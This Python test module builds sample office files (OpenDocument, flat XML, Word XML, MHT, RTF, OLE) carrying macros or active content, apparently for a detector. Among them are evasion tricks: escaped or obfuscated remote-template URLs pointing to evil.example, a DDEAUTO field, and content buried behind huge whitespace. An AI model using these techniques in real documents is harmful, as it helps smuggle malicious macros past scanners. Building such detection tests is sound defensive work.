"""Macros in OpenDocument files, in documents that are written as text, and in files of old programs.

What stays true: each differs from an honest file by its macros alone.
"""

import base64
from collections.abc import Mapping

from tests.outlook_file import Storage, properties, write
from tests.unit.documents import ODF, ODF_CONTENT, OOXML, odf, packed
from tests.unit.store.media_types.package_edits import change

PROJECT_TYPE = "application/vnd.ms-office.vbaProject"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
EVENT = (
    '<{0}:event-listener xmlns:{0}="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    '{0}:event-name="dom:load" xlink:href="{1}" xmlns:xlink="http://www.w3.org/1999/xlink"/>'
)
CALL = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"


def build_open_document_forms(kind: str) -> Mapping[str, bytes]:
    main = f"office:{kind}"
    honest = odf(kind, f"<{main}/>")

    def body(inner: str) -> bytes:
        return odf(kind, f"<{main}>{inner}</{main}>")

    def package(parts: dict[str, bytes | str]) -> bytes:
        return change(honest, parts)

    def manifest(path: str, media_type: str = "") -> str:
        return (
            f'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry '
            f'm:full-path="/" m:media-type="{ODF}.{kind}"/>'
            f'<m:file-entry m:full-path="{path}" m:media-type="{media_type}"/></m:manifest>'
        )

    called = ODF_CONTENT.format(body=EVENT.format("script", CALL))
    form = '<form:button xmlns:form="f" xmlns:xlink="x" xlink:href="{}"/>'
    forms = {
        f"with {name}": package({name: "x"})
        for name in (
            "Basic/Standard/Module1.xml",
            "Basic/script-lc.xml",
            "Scripts/python/a.py",
            "Scripts/beanshell/a/a.bsh",
            "Dialogs/Standard/D.xml",
            "Object 1/Basic/Standard/Module1.xml",
            "basic/Standard/M.xml",
            "Basic\\Standard\\M.xml",
        )
    }
    forms |= {
        f"listed {path}": package({"META-INF/manifest.xml": manifest(path)})
        for path in ("Basic/", "Scripts/python/a.py", "&#66;asic/x")
    }
    forms["a component"] = package(
        {"META-INF/manifest.xml": manifest("a.py", "application/vnd.sun.star.uno-component;type=Python")}
    )
    forms |= {
        f"calling {name}": body(EVENT.format("script", address))
        for name, address in {
            "a macro": CALL,
            "a macro of the program": "vnd.sun.star.script:a|a.py$run?language=Python&amp;location=share",
            "with references": "vnd&#46;sun.star&#x2e;script:x",
            "in capitals": "VND.SUN.STAR.SCRIPT:x",
            "as of old": "macro:///Standard.M.Main",
            "a command": "vnd.libreoffice.command:x",
            "an expansion": "vnd.sun.star.expand:x",
        }.items()
    }
    forms |= {
        "called with a prefix": body(EVENT.format("q", CALL)),
        "called in UTF-16": package({"content.xml": called.replace("UTF-8", "UTF-16").encode("utf-16")}),
        "called in the styles": package({"styles.xml": called}),
        "called within an object": package({"Object 1/content.xml": called}),
        "called in an encoding of China": package({"content.xml": called.replace("UTF-8", "GB18030").encode()}),
        "showing a page of another machine": body(
            '<draw:floating-frame xmlns:draw="d" xlink:href="http://evil.example/a.odt" xmlns:xlink="x"/>'
        ),
        "called behind a lot": body(" " * 3_000_000 + EVENT.format("script", CALL)),
        "called by a form": body(form.format(CALL)),
        "called by its name": body(
            '<script:event-listener xmlns:script="s" script:language="StarBasic" script:macro-name="Main"/>'
        ),
        "starting a program": body(
            '<presentation:event-listener xmlns:presentation="p" presentation:action="execute" xlink:href="c" '
            'xmlns:xlink="x"/>'
        ),
        "called through an entity": package(
            {"content.xml": '<!DOCTYPE a [<!ENTITY e "macro:x">]><office:a xmlns:office="o" href="&e;"/>'}
        ),
        "without a type": packed({"content.xml": called, "META-INF/manifest.xml": manifest("content.xml")}),
        "with a packed type": packed({"mimetype": f"{ODF}.{kind}", "content.xml": called}),
        "with a packed type and code": packed({"mimetype": f"{ODF}.{kind}", "Basic/Standard/M.xml": "x"}),
        "of OpenOffice": packed(
            {"mimetype": "application/vnd.sun.xml.writer", "content.xml": "<x/>", "Basic/Standard/M.xml": "x"},
            stored=("mimetype",),
        ),
        "of another kind": packed(
            {"mimetype": f"{ODF}.graphics", "content.xml": "<x/>", "Basic/Standard/M.xml": "x"}, stored=("mimetype",)
        ),
    }
    return forms


def build_text_forms() -> Mapping[str, bytes]:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:ooo="http://openoffice.org/2004/office"'
    )
    flat = f'<?xml version="1.0"?><office:document {spaces} office:mimetype="{ODF}.text">{{}}</office:document>'
    source = "<office:scripts><ooo:module><ooo:source-code>Sub Main</ooo:source-code></ooo:module></office:scripts>"
    opc = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package '
        'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
        '<pkg:part pkg:name="/word/p.bin" pkg:contentType="{}"/></pkg:package>'
    )
    related = opc.replace("<pkg:part ", '<Relationship Type="{}" Target="{}"/><pkg:part ')
    kinds = "http://schemas.microsoft.com/office/2006/relationships", f"{OOXML}/relationships"
    word = (
        '<?xml version="1.0"?><w:wordDocument '
        'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"{}>{}</w:wordDocument>'
    )
    active = base64.b64encode(b"ActiveMime\0\0\1\xf0\4" + bytes(40)).decode()
    page = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n{}\r\n--b\r\nContent-Type: "
        "text/html\r\n\r\n<p>\r\n--b\r\nContent-Transfer-Encoding: {}\r\n\r\n{}\r\n--b--"
    )
    sender = "From: a@e.org\r\nSubject: x\r\nDate: y\r\n"
    rich = r"{{\rtf1\ansi text {}}}"
    return {
        "flat with a module": flat.format(source).encode(),
        "flat with a call": flat.format(EVENT.format("script", CALL)).encode(),
        "flat behind the words of a mail": f"<!-- MIME-Version: 1.0 -->{flat.format(source)[21:]}".encode(),
        "flat in UTF-16": flat.format(source).encode("utf-16"),
        **{
            f"flat in {encoding}": flat.replace("?>", f' encoding="{encoding}"?>', 1).format(source).encode(encoding)
            for encoding in ("GB18030", "Shift_JIS", "Big5", "EUC-KR", "UTF-7", "HZ", "UTF-32")
        },
        "flat, declared far behind": flat.replace("?>", f'{" " * 900}encoding="EUC-JP"?>', 1).format(source).encode(),
        "flat behind a lot": flat.format(" " * 2_000_000 + source).encode(),
        "a package as XML": opc.format(PROJECT_TYPE).encode(),
        "a package as XML of a type": opc.format("application/vnd.ms-word.document.macroEnabled.main+xml").encode(),
        "a package as XML by its relationship": related.format(f"{kinds[0]}/vbaProject", "p.bin", "a/b").encode(),
        "a package as XML with a control": related.format(f"{kinds[1]}/control", "p.bin", "a/b").encode(),
        "a package as XML with a template": related.format(
            f"{kinds[1]}/attachedTemplate", "http://evil.example/a.dotm", "a/b"
        ).encode(),
        "a package as XML by a name": opc.replace("p.bin", "vbaProject.bin").format("a/b").encode(),
        "Word's XML": word.format("", "<w:docSuppData/>").encode(),
        "Word's XML that says so": word.format(' w:macrosPresent="yes"', "").encode(),
        "a saved page": page.format("", "base64", active).encode(),
        "a saved page of a mail": page.format(sender, "base64", active).encode(),
        "a saved page in lines": page.format(
            sender, "base64", "\r\n".join(active[at : at + 3] for at in range(0, len(active), 3))
        ).encode(),
        "a saved page, quoted": page.format(sender, "quoted-printable", "Active=\r\nM=69me=00=00=01=F0").encode(),
        "a saved page, quoted further": page.format(sender, "quoted-printable", "=41ctiveMime=00=00=01=F0").encode(),
        "a saved page behind a long field": ("X: " + "x" * 9_000 + "\r\n" + page.format("", "base64", active)).encode(),
        "a saved page without a version": page.format("", "base64", active).partition("\n")[2].encode(),
        "a saved page of a Mac": page.format("", "base64", active).replace("\r\n", "\r").encode(),
        "a saved page with other characters": page.format("", "base64", f"Q-W!!N{active[3:]}").encode(),
        "a saved page, far behind": page.format(sender, "base64", "\r\n" * 9_000 + active).encode(),
        **{
            f"rich text with {name}": rich.format(text).encode()
            for name, text in {
                "an object": r"{\object\objemb{\*\objdata 0105}}",
                "data of an object": r"{\*\objdata 0105}",
                "a numbered object": r"\objdata0 0105",
                "a link": r"{\object\objautlink\objupdate}",
                "a control": r"{\object\objocx{\*\objdata 01}}",
                "a page": r"{\object\objhtml}",
                "a template": r"{\*\template http://evil.example/a.dotm}",
                "a template on a share": r"{\*\template \\\\evil\\share\\a.dot}",
                **{
                    f"a template written {name}": rf"{{\*\template{address}evil.example/a.dotm}}"
                    for name, address in {
                        "in hexadecimal": r"\'68\'74tp://",
                        "in numbers": r" \u104?\u116?tp://",
                        "in negative numbers": r" \u-65432?\u-65420?tp://",
                        "in a group": " {http://",
                        "in lines": " ht\r\ntp://",
                        "with commands in it": r"0 \rtlch\ab0 h\b0 ttp://",
                    }.items()
                },
                "a command": r"{\field{\*\fldinst {\rtlch\ab0 DDEAUTO c:\\\\windows}}}",
                "an object far behind": " " * 400_000 + r"{\object{\*\objdata 01}}",
            }.items()
        },
        "rich text by less": rb"{\rtx1 {\object{\*\objdata 0105}}}",
    }


def build_old_forms() -> Mapping[str, bytes]:
    def old(stream: str) -> bytes:
        return OLE + f"{stream}\0".encode("utf-16-le")

    macros = Storage({"x": b"x"})
    forms = {
        f"an old {stream}": old(stream)
        for stream in ("WordDocument", "Workbook", "Book", "PowerPoint Document", "WORDDOCUMENT")
    }
    forms |= {
        f"a mail with {name}": write(properties({0x1000: "x"}, inner={name: macros}))
        for name in ("Macros", "_VBA_PROJECT_CUR", "VBA", "WordDocument", "workbook", "EncryptedPackage")
    }
    forms |= {
        "a database": b"\0\1\0\0Standard Jet DB\0" + bytes(300),
        "a newer database": b"\0\1\0\0Standard ACE DB\0" + bytes(300),
        "a notebook of OneNote": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(300),
        "a page of help": b"?_\3\0" + bytes(300),
    }
    forms |= {"an installer": OLE + "Property\0".encode("utf-16-le")}
    forms |= {
        f"a sheet before OLE: {head!r}": head + bytes(60)
        for head in (b"\t\0\4\0", b"\t\2\6\0", b"\t\4\6\0", b"\t\x08\x10\0")
    }
    return forms
